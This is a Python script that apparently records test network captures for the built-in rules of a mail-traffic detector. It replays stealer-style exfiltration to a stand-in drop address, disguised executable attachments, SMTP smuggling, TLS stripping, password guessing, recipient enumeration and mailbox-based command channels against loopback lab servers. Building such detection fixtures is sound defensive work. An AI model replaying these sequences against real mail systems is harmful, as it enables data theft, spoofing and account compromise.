"""One recording for each network pattern of the built-in rules: patterns.py WORK [NAME...]

A function is a pattern: it plays its sessions with real clients, and its plan says from which host and
when each connection of the capture shall be. The name is that of the capture, and expected.json beside
the captures names the rules that must fire on it.
"""
from __future__ import annotations

import base64
import io
import pathlib
import struct
import sys
import time
import zipfile
import zlib
from collections.abc import Callable

import benign
from lab import (MX, OUTSIDE, PASSWORD, RELAY, STRICT_MX, STRIPPED, SUBMIT, Lab, Placed, Recorder, mail, noise, place, with_file)

PATTERNS: dict[str, tuple[Callable[[Lab], list[Placed] | None], list[Placed]]] = {}
DROP = "drop@example.net"
BOB = "bob@example.com"


def pattern(*plan: Placed) -> Callable[[Callable[[Lab], None]], Callable[[Lab], None]]:
    def add(play: Callable[[Lab], None]) -> Callable[[Lab], None]:
        PATTERNS[play.__name__] = (play, list(plan) or [Placed("ws1", "09:30")])
        return play
    return add


def every(client: str, start: str, minutes: float, count: int, seconds: float = 1, jitter: float = 0) -> list[Placed]:
    hour, minute = map(int, start.split(":"))
    out = []
    for i in range(count):
        at = (hour * 60 + minute + minutes * i) * 60 + jitter * ((i * 7919) % 13 - 6)
        out.append(Placed(client, f"{int(at // 3600)}:{int(at % 3600 // 60)}:{at % 60:.3f}", seconds))
    return out


def archive(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
        for name, data in files.items():
            box.writestr(zipfile.ZipInfo(name.replace("_", "."), (2026, 11, 18, 9, 0, 0)), data)
    return out.getvalue()


def jpeg(appended: bytes = b"") -> bytes:
    """The smallest picture that decoders take for one."""
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\xff\xdb\x00\x43\x00" + bytes([16] * 64)
            + b"\xff\xc0\x00\x0b\x08\x00\x08\x00\x08\x01\x01\x11\x00" + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x37\xff\xd9" + appended)


def bmp(width: int, height: int, pixels: bytes) -> bytes:
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, len(pixels), 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + len(pixels), 0, 0, 54) + head + pixels


PROGRAM = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(43) + b"\x80\x00\x00\x00"
           + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$" + bytes(9)
           + b"PE\x00\x00" + bytes(400))


# ---- what stealers send


@pattern()
def dotnet_report(lab: Lab) -> None:
    """The header of System.Net.Mail: no Message-ID, a date without weekday, the machine in the subject."""
    lab.file("report.eml", "MIME-Version: 1.0\r\nFrom: bob@example.com\r\nTo: drop@example.net\r\nDate: 18 Nov 2026 10:30:00 +0100\r\n"
             "Subject: PW_bob/WS1\r\nContent-Type: text/html; charset=us-ascii\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
             "<html>report</html>\r\n")
    lab.curl("--url", "smtp://127.9.9.25:25/WS1", "--mail-from", BOB, "--mail-rcpt", DROP, "-T", "report.eml")


@pattern()
def stealer_body(lab: Lab) -> None:
    lab.swaks(OUTSIDE, BOB, DROP, mail(BOB, DROP, "report", "Time: 11/18/2026 10:30:00\nUser Name: bob\nComputer Name: WS1\n"
              "OSFullName: Microsoft Windows 11 Pro\nCPU: Intel(R) Core(TM) i5\nRAM: 16087 MB\nPassword: made-up",
              "X-Mailer: Reporter 1.0"))


@pattern()
def stealer_file_names(lab: Lab) -> None:
    head, body = with_file("SC_bob-WS1_2026_11_18_10_30_00.jpeg", "image/jpeg", jpeg())
    lab.swaks(OUTSIDE, BOB, DROP, mail(BOB, DROP, "screen", body, head, "X-Mailer: Reporter 1.0"))


@pattern()
def archive_attached(lab: Lab) -> None:
    """mutt writes no User-Agent unless it is told to."""
    path = lab.file("documents.zip", archive(notes_txt=b"made up\n" * 50))
    lab.run("mutt", "-n", "-F", "/dev/null", "-e", 'set from="bob@example.com" copy=no user_agent=no smtp_url="smtp://127.9.9.25:25" '
            "ssl_starttls=no ssl_force_tls=no hostname=ws1.example.com use_envelope_from=yes", "-s", "documents", "-a", path, "--", DROP, stdin=b"as agreed\n")


@pattern()
def sent_to_oneself(lab: Lab) -> None:
    head, body = with_file("notes.rtf", "application/rtf", b"{\\rtf1 made up " + b"word " * 200 + b"}")
    lab.swaks(OUTSIDE, "box@example.net", "box@example.net", mail("box@example.net", "box@example.net", "notes", body, head))


@pattern(Placed("ws1", "09:31"), Placed("ws2", "10:02"), Placed("ws3", "11:47"))
def many_machines(lab: Lab) -> None:
    for i in (1, 2, 3):
        lab.swaks(OUTSIDE, f"user{i}@example.com", DROP, mail(f"user{i}@example.com", DROP, f"id {i}", "alive", message_id=False),
                  helo=f"ws{i}.example.com")


@pattern()
def encrypted_file(lab: Lab) -> None:
    head, body = with_file("data.bin", "application/octet-stream", noise("encrypted", 12_000))
    lab.swaks(OUTSIDE, BOB, DROP, mail(BOB, DROP, "data", body, head))


@pattern()
def much_sent(lab: Lab) -> None:
    """A large file of zeros: the capture packs well, the flow is as large as any."""
    head, body = with_file("export.csv", "text/csv", b"0;0;0;0;0\n" * 22_000)
    lab.swaks(OUTSIDE, BOB, DROP, mail(BOB, DROP, "export", body, head, "X-Mailer: Exporter 2.1"))


# ---- attachments that are not what they say


@pattern()
def program_as_picture(lab: Lab) -> None:
    head, body = with_file("holiday.jpg", "image/jpeg", PROGRAM)
    lab.swaks(RELAY, BOB, "carol@example.com", mail(BOB, "carol@example.com", "holiday", body, head))


@pattern()
def archive_as_picture(lab: Lab) -> None:
    head, body = with_file("holiday.png", "image/png", archive(list_csv=noise("list", 900)))
    lab.swaks(RELAY, BOB, "carol@example.com", mail(BOB, "carol@example.com", "holiday", body, head))


@pattern()
def archive_with_program(lab: Lab) -> None:
    head, body = with_file("invoice.zip", "application/zip", archive(invoice_exe=PROGRAM))
    lab.swaks(RELAY, "news@example.org", BOB, mail("news@example.org", BOB, "invoice", body, head, "X-Mailer: Agent 1.0"), helo="mx.example.org")


PATTERNS["archive_with_program"][1][:] = [Placed("partner", "09:30")]


@pattern()
def archive_with_password(lab: Lab) -> None:
    lab.file("papers.txt", noise("papers", 900))
    lab.run("zip", "-q", "-X", "-P", PASSWORD, "papers.zip", "papers.txt")
    head, body = with_file("papers.dat", "application/octet-stream", (lab.work / "papers.zip").read_bytes())
    lab.swaks(OUTSIDE, BOB, DROP, mail(BOB, DROP, "papers", body, head))


@pattern()
def picture_with_appended_data(lab: Lab) -> None:
    head, body = with_file("holiday.jpg", "image/jpeg", jpeg(noise("appended", 6_000)))
    lab.swaks(RELAY, BOB, "carol@example.com", mail(BOB, "carol@example.com", "holiday", body, head))


@pattern()
def picture_larger_than_its_pixels(lab: Lab) -> None:
    head, body = with_file("logo.bmp", "image/bmp", bmp(16, 16, bytes(768) + noise("pixels", 9_000)))
    lab.swaks(RELAY, BOB, "carol@example.com", mail(BOB, "carol@example.com", "logo", body, head))


@pattern()
def deceptive_name(lab: Lab) -> None:
    head, body = with_file("invoice.pdf.js", "application/octet-stream", b"// made up\nvar a = 1;\n")
    lab.swaks(RELAY, BOB, "carol@example.com", mail(BOB, "carol@example.com", "invoice", body, head))


@pattern()
def program_in_text(lab: Lab) -> None:
    lab.swaks(RELAY, BOB, "carol@example.com", mail(BOB, "carol@example.com", "update",
              base64.encodebytes(PROGRAM).decode().replace("\n", "")[:600] + "\n", "X-Mailer: Reporter 1.0"))


# ---- who writes, and to whom


@pattern()
def sender_shows_another_address(lab: Lab) -> None:
    lab.swaks(RELAY, "x7@example.org", BOB, mail('"carol@example.com" <x7@example.org>', BOB, "payment", "Please pay today."),
              helo="mx.example.org")


PATTERNS["sender_shows_another_address"][1][:] = [Placed("partner", "09:30")]


def sent_in_one_connection(lab: Lab, helo: str, mails: list[tuple[str, str, str]]) -> None:
    """Sender, recipient and text of each mail; curl keeps its connection between two transfers."""
    command: list[str] = []
    for i, (sender, recipient, text) in enumerate(mails):
        lab.file(f"{i}.eml", text.replace("\n", "\r\n"))
        command += ["--next"] * (i > 0) + ["-sS", "--url", f"smtp://127.9.0.25:25/{helo}", "--mail-from", sender, "--mail-rcpt", recipient,
                                           "-T", f"{i}.eml"]
    lab.run("curl", *command)


@pattern(Placed("ws1", "13:05", 40))
def one_file_to_many(lab: Lab) -> None:
    head, body = with_file("salary.pdf", "application/pdf", b"%PDF-1.4\nmade up\n%%EOF\n")
    people = [f"user{i}@example.com" for i in range(12)]
    sent_in_one_connection(lab, "ws1.example.com", [(BOB, p, mail(BOB, p, "salaries", body, head, "X-Mailer: Agent 1.0")) for p in people])


@pattern()
def script_from_inside(lab: Lab) -> None:
    head, body = with_file("update.sh", "application/x-sh", b"#!/bin/sh\necho made up\n")
    lab.swaks(RELAY, BOB, "carol@example.com", mail(BOB, "carol@example.com", "Urgent security update", body, head, "X-Mailer: Agent 1.0"))


@pattern(Placed("partner", "10:05", 40))
def many_asked_for_answers(lab: Lab) -> None:
    people = [f"user{i}@example.com" for i in range(12)]
    sent_in_one_connection(lab, "mx.example.org", [
        ("m7@example.org", p, mail("Staff <staff@example.net>", p, "survey", "Please answer.", "X-Mailer: Agent 1.0", "Reply-To: survey@example.edu"))
        for p in people])


@pattern(Placed("partner", "10:25", 20))
def page_to_many(lab: Lab) -> None:
    head, body = with_file("voicemail.html", "text/html", b"<html><form action=x>made up</form></html>\n")
    people = [f"user{i}@example.com" for i in range(6)]
    sent_in_one_connection(lab, "mx.example.org", [("news@example.org", p, mail("news@example.org", p, "voicemail", body, head, "X-Mailer: Agent 1.0"))
                                                   for p in people])


@pattern(Placed("partner", "03:10", 200))
def mailbox_flooded(lab: Lab) -> None:
    lists = [f"list{i}@example.org" for i in range(60)]
    sent_in_one_connection(lab, "mx.example.org", [(s, BOB, mail(s, BOB, f"welcome {s}", "welcome", "X-Mailer: Lists 2.0")) for s in lists])


@pattern(*[Placed("ws1", f"09:{30 + i}") for i in range(5)])
def direct_delivery(lab: Lab) -> None:
    for i, server in enumerate(MX):
        lab.swaks(server, "offer@example.com", f"user{i}@example.org", mail("offer@example.com", f"user{i}@example.org", f"offer {i}", "cheap"))


@pattern(Placed("partner", "04:00", 8))
def recipients_guessed(lab: Lab) -> None:
    names = ["anna", "ben", "chris", "dora", "emil", "frank", "greta", "hans", "ines", "jan", "kate", "leo", "mia", "nils", "olga", "paul"]
    talk(lab, STRICT_MX, 25, ["EHLO probe.example.net", "MAIL FROM:<probe@example.net>", *[f"RCPT TO:<{n}@example.org>" for n in names], "QUIT"])


PATTERNS["recipients_guessed"][1][:] = [Placed("ws1", "04:00", 8)]


@pattern(Placed("ws1", "02:35"))
def sent_at_night(lab: Lab) -> None:
    head, body = with_file("customers.csv", "text/csv", b"name;city\n" + b"made up;nowhere\n" * 40)
    lab.swaks(OUTSIDE, BOB, DROP, mail(BOB, DROP, "customers", body, head))


@pattern(*every("ws1", "06:00", 30, 30, jitter=4))
def sent_by_the_clock(lab: Lab) -> None:
    for i in range(30):
        lab.swaks(OUTSIDE, BOB, DROP, mail(BOB, DROP, f"state {i:02d}", "id=ws1 state=idle next=1800", "X-Mailer: Agent 1.0"))


# ---- the protocol bent


def talk(lab: Lab, server: str, port: int, lines: list[str], wait_for_each: bool = True, pause: float = 0.02) -> None:
    """Lines said by socat, one after another, or all at once."""
    script = "".join(f"printf '%s\\r\\n' '{line}'; sleep {pause if wait_for_each else 0}\n" for line in lines)
    lab.file("talk.sh", "sleep 0.2\n" + script + "sleep 0.5\n")
    lab.run("socat", "-t", "2", "SYSTEM:sh talk.sh", f"TCP:{server}:{port}")


@pattern()
def smuggled_mail(lab: Lab) -> None:
    text = ("EHLO ws1.example.com\\r\\nMAIL FROM:<bob@example.com>\\r\\nRCPT TO:<carol@example.com>\\r\\nDATA\\r\\n",
            "Subject: hello\\r\\nMessage-ID: <1@example.com>\\r\\n\\r\\nhello\\n.\\r\\nMAIL FROM:<boss@example.com>\\r\\n"
            "RCPT TO:<carol@example.com>\\r\\nDATA\\r\\nSubject: pay\\r\\n\\r\\nnow\\r\\n.\\r\\n", "QUIT\\r\\n")
    lab.file("talk.sh", "sleep 0.2\n" + "".join(f"printf '{t}'; sleep 0.3\n" for t in text))
    lab.run("socat", "-t", "2", "SYSTEM:sh talk.sh", f"TCP:{RELAY}:25", may_fail=True)


@pattern()
def odd_port(lab: Lab) -> None:
    lab.swaks(OUTSIDE, BOB, DROP, mail(BOB, DROP, "hello", "hello", "X-Mailer: Agent 1.0"), port=8025)


@pattern()
def other_protocol_on_mail_port(lab: Lab) -> None:
    server = lab.work / "www"
    server.mkdir(exist_ok=True)
    (server / "task").write_text("sleep 3600\n")
    import subprocess
    web = subprocess.Popen(["python3", "-m", "http.server", "--bind", OUTSIDE, "2525"], cwd=server, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
    time.sleep(0.7)
    lab.curl("http://127.9.9.25:2525/task")
    web.terminate()
    web.wait()


@pattern()
def web_in_tls(lab: Lab) -> None:
    lab.curl("--http0.9", "--max-time", "4", f"https://{OUTSIDE}:993/", may_fail=True)


@pattern()
def signed_by_itself(lab: Lab) -> None:
    lab.curl("--tls-max", "1.2", f"imaps://{OUTSIDE}/INBOX", "-X", "NOOP", user="bob")


@pattern()
def login_in_clear_tls_offered(lab: Lab) -> None:
    lab.run("swaks", "--server", SUBMIT, "--port", "587", "--ehlo", "ws1.example.com", "--auth", "LOGIN", "--auth-user", "bob", "--auth-password",
            PASSWORD, "--quit-after", "AUTH")


@pattern()
def login_in_clear(lab: Lab) -> None:
    lab.run("swaks", "--server", OUTSIDE, "--port", "587", "--ehlo", "ws1.example.com", "--auth", "PLAIN", "--auth-user", "bob", "--auth-password",
            PASSWORD, "--quit-after", "AUTH")


@pattern(*[Placed("ws1", f"05:{10 + i // 2}:{i % 2 * 30}") for i in range(12)])
def passwords_guessed(lab: Lab) -> None:
    for i in range(12):
        lab.run("curl", "-sS", "--user", f"bob:guess{i}", "pop3://127.9.0.25/", may_fail=True)


@pattern(Placed("ws1", "09:30"), Placed("ws1", "11:02"))
def tls_stripped(lab: Lab) -> None:
    """The same server twice: once as it is, once through somebody who unmakes its offer of TLS."""
    import subprocess
    tls = ["swaks", "--port", "587", "--ehlo", "ws1.example.com", "--quit-after", "EHLO"]
    lab.run(*tls, "--server", SUBMIT, "--tls")
    relay = subprocess.Popen([sys.executable, str(pathlib.Path(__file__).with_name("strip_tls.py")), STRIPPED, SUBMIT, "587"])
    time.sleep(0.5)
    lab.run(*tls, "--server", STRIPPED)
    relay.terminate()
    relay.wait()


@pattern()
def commands_before_tls(lab: Lab) -> None:
    lab.file("talk.sh", "sleep 0.2; printf 'EHLO ws1.example.com\\r\\n'; sleep 0.2; printf 'STARTTLS\\r\\nMAIL FROM:<x@example.org>\\r\\n'; sleep 0.4\n")
    lab.run("socat", "-t", "1", "SYSTEM:sh talk.sh", f"TCP:{SUBMIT}:587", may_fail=True)


# ---- mailboxes as channels


def imap(lab: Lab, user: str, *requests: list[str]) -> None:
    """curl's requests over one connection."""
    command: list[str] = []
    for i, r in enumerate(requests):
        command += ["--next"] * (i > 0) + ["-sS", "-k", "--user", f"{user}:{PASSWORD}", *r]
    lab.run("curl", *command)


BOX = "imap://127.9.0.25/"


@pattern()
def draft_with_attachment(lab: Lab) -> None:
    head, body = with_file("out.dat", "application/octet-stream", b"id=ws1\n" * 30)
    lab.file("draft.eml", mail("box@example.com", "box@example.com", "draft", body, head).replace("\n", "\r\n"))
    imap(lab, "box", ["--url", BOX + "Drafts", "-T", "draft.eml"])


@pattern(Placed("ws1", "09:30"), Placed("ws4", "09:52"))
def drafts_shared(lab: Lab) -> None:
    lab.file("draft.eml", mail("pool@example.com", "pool@example.com", "note", "next=7200").replace("\n", "\r\n"))
    imap(lab, "pool", ["--url", BOX + "Drafts", "-T", "draft.eml"])
    imap(lab, "pool", ["--url", BOX + "Drafts;MAILINDEX=1"], ["--url", BOX + "Drafts", "-X", "STORE 1 +FLAGS (\\Deleted)"],
         ["--url", BOX + "Drafts", "-X", "EXPUNGE"])


@pattern()
def command_queue(lab: Lab) -> None:
    lab.mailbox("queue", [mail("boss@example.com", "queue@example.com", "ws1-task", "run whoami")])
    imap(lab, "queue", ["--url", BOX + "INBOX", "-X", "SEARCH SUBJECT ws1-task"], ["--url", BOX + "INBOX;MAILINDEX=1"],
         ["--url", BOX + "INBOX", "-X", "STORE 1 +FLAGS (\\Deleted)"], ["--url", BOX + "INBOX", "-X", "EXPUNGE"])


@pattern(*every("ws1", "14:00", 2, 22, jitter=4))
def polled_often(lab: Lab) -> None:
    for _ in range(22):
        lab.curl("pop3://127.9.0.25/", user="often")


@pattern(*every("ws1", "05:00", 30, 30, jitter=3))
def asked_by_the_clock(lab: Lab) -> None:
    """fetchmail, which fetches and deletes: one mail is there, then none."""
    lab.mailbox("clock", [mail("boss@example.com", "clock@example.com", "task", "sleep")])
    lab.file("rc", f"poll 127.9.0.25 proto pop3 user clock password {PASSWORD} mda /bin/true no keep sslproto ''\n")
    pathlib.Path(lab.work / "rc").chmod(0o600)
    for _ in range(30):
        lab.run("fetchmail", "-f", "rc", "--silent", "--pidfile", "pid", may_fail=True)


@pattern(Placed("ws1", "06:00", 12 * 3600))
def watched_in_one_connection(lab: Lab) -> None:
    searches = [f"a{i} SEARCH UNSEEN SUBJECT ws1-task" for i in range(60)]
    talk(lab, RELAY, 143, ["a LOGIN watch made-up", "b SELECT INBOX", *searches, "z LOGOUT"], pause=0.1)


@pattern(Placed("ws1", "12:00", 30))
def mailbox_copied(lab: Lab) -> None:
    lab.mailbox("victim", [mail("dora@example.org", "victim@example.com", f"mail {i}", "made up") for i in range(120)])
    lab.file("mbsyncrc", f"""IMAPAccount a
Host 127.9.0.25
Port 143
User victim
Pass {PASSWORD}
SSLType None
AuthMechs LOGIN

IMAPStore far
Account a

MaildirStore near
Path {lab.work}/copy/
Inbox {lab.work}/copy/INBOX

Channel c
Far :far:
Near :near:
Create Near
SyncState *
""")
    (lab.work / "copy").mkdir(exist_ok=True)
    lab.run("mbsync", "-c", "mbsyncrc", "c")


@pattern(Placed("ws1", "09:30"), Placed("ws1", "10:30"), Placed("ws1", "11:30"))
def python_mailer(lab: Lab) -> None:
    """Python's own mail classes, as a script uses them."""
    lab.file("mailer.py", "import smtplib\nfrom email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\n"
             "for i in range(3):\n m = MIMEMultipart()\n m['From'], m['To'], m['Subject'] = 'bob@example.com', 'drop@example.net', f'part {i}'\n"
             " m.attach(MIMEText('made up', 'plain'))\n with smtplib.SMTP('127.9.9.25', 25) as s:\n  s.sendmail(m['From'], m['To'], m.as_string())\n")
    lab.run(sys.executable, "mailer.py")


@pattern()
def claims_outlook(lab: Lab) -> None:
    lab.swaks(OUTSIDE, BOB, DROP, mail(BOB, DROP, "hello", "hello", "X-Mailer: Microsoft Outlook 16.0", "MIME-Version: 1.0",
                                       "Content-Type: text/plain; charset=us-ascii"))


@pattern()
def login_of_another_domain(lab: Lab) -> None:
    lab.swaks(OUTSIDE, "ceo@example.org", DROP, mail("ceo@example.org", DROP, "hello", "hello", "X-Mailer: Agent 1.0"), "--auth", "CRAM-MD5",
              "--auth-user", "stolen@example.net", "--auth-password", PASSWORD, port=587)


def main() -> int:
    lab = Lab(pathlib.Path(sys.argv[1]))
    out = pathlib.Path(__file__).resolve().parent.parent
    chosen = sys.argv[2:]
    unknown = set(chosen) - set(PATTERNS) - {"benign_day"}
    if unknown:
        sys.exit(f"unknown: {', '.join(sorted(unknown))}")
    status = 0
    for name, (play, plan) in {**PATTERNS, "benign_day": (benign.play, [])}.items():
        if chosen and name not in chosen:
            continue
        try:
            with Recorder(lab.work) as recorder:
                plan = play(lab) or plan
            place(recorder.raw, out / f"{name}.pcap", plan)
            print(name, file=sys.stderr)
        except SystemExit as failed:  # the others are recorded all the same
            print(f"{name} FAILED: {failed}", file=sys.stderr)
            status = 1
    return status


if __name__ == "__main__":
    sys.exit(main())
